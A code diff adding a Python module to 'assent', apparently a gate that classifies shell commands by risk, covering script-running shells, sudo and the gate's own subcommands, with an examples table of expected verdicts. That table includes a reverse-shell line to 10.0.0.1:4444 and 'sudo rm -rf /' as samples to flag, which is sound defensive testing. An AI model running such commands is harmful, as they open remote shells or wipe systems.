@@ -1,0 +1,96 @@
+"""Shells that run a script, and this gate's own command."""
+
+from __future__ import annotations
+
+from assent.risk.access import Ground
+from assent.risk.category import Category
+from assent.risk.finding import Judgement
+from assent.risk.rule import Effect, Operands, Program, Role, proven, raises
+from assent.risk.table import Table, judge
+
+TYPE_CHECKING = False
+if TYPE_CHECKING:
+    from assent.command.model import Argument, Command, Surroundings
+
+
+def _script(word: Argument, ground: Ground) -> Judgement:
+    components = ground.resolve(word.text)
+    if word.exact and components is not None and ground.is_project(components):
+        return Judgement(Category.RunsProjectCode, f"`{word.text}` is a script of the project", word, reads=(word,))
+    return Judgement(Category.Unrecognized, f"`{word.text}` is not known to be a script of the project", word)
+
+
+def _shell(command: Command, surroundings: Surroundings) -> Judgement:
+    """A script named by its path; a text given with `-c` is judged as commands of its own."""
+    ground = Ground(command.cwd, surroundings)
+    name = command.argv[0].text
+    entry = Program(
+        name,
+        "-a -b -e -f -h -i -k -l -m -n -p -t -u -v -x -B -C -E -H -P -T -o= --login --norc --noprofile --posix",
+        Operands(first=(proven(lambda word: _script(word, ground)),)),
+        {"-s": raises(Category.Unrecognized, "runs what it reads")},
+        abbreviates=False,
+        permutes=False,
+    )
+    if len(command.argv) == 1:
+        return Judgement(Category.Unrecognized, f"`{name}` runs what it reads", command.argv[0])
+    return judge(Table(entry), command.argv, name)
+
+
+OWN = Effect(Role.Text, Category.Destroys, "changes what this gate lets through")
+
+PROGRAMS = (
+    Program("sh bash dash ash zsh ksh mksh", judge=_shell),
+    Program(
+        "assent",
+        subcommands=(
+            Program(
+                "check explain parse",
+                "--json --mode= --sandbox= --shell= --cwd= --workspace= --home= --isolated --batch --color --no-color",
+            ),
+            Program("demo doctor aliases", "--json"),
+            Program(
+                "trust approvals alias install uninstall pave rules run hook server learn export import config",
+                category=Category.Destroys,
+                phrase="changes what this gate lets through",
+                inert=True,
+            ),
+        ),
+    ),
+    Program(
+        "sudo doas su",
+        "-l,--list -n -v -k -K -V",
+        category=Category.ModifiesSystem,
+        phrase="works as another user",
+    ),
+)
+
+EXAMPLES = """
+RunsProjectCode: bash x.sh
+RunsProjectCode: sh -eux ./scripts/build.sh --fast
+RunsProjectCode: ./run.sh
+RunsProjectCode: ./ls
+Unrecognized: bash /tmp/x.sh
+Unrecognized: bash ../x.sh
+Unrecognized: /opt/x/run.sh
+Unrecognized: bash "$script"
+Unrecognized: bash
+Unrecognized: bash -s
+Unrecognized: echo ls | sh
+ReadsFilesystem: bash --version
+ReadsFilesystem: bash -c 'ls && pwd'
+ReadsFilesystem: bash -lc 'ls | wc -l'
+DeletesData: bash -c 'rm -r x'
+Destroys: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
+ReadsFilesystem: assent check 'rm -rf /'
+ReadsFilesystem: assent explain --json ls
+ReadsFilesystem: assent --version
+Destroys: assent trust
+Destroys: assent approvals trust-verb 'git push *'
+Destroys: assent uninstall claude
+Unrecognized: assent whatever
+ModifiesSystem: sudo ls
+ModifiesSystem: sudo -l
+DeletesData: sudo rm x
+Destroys: sudo rm -rf /
+"""
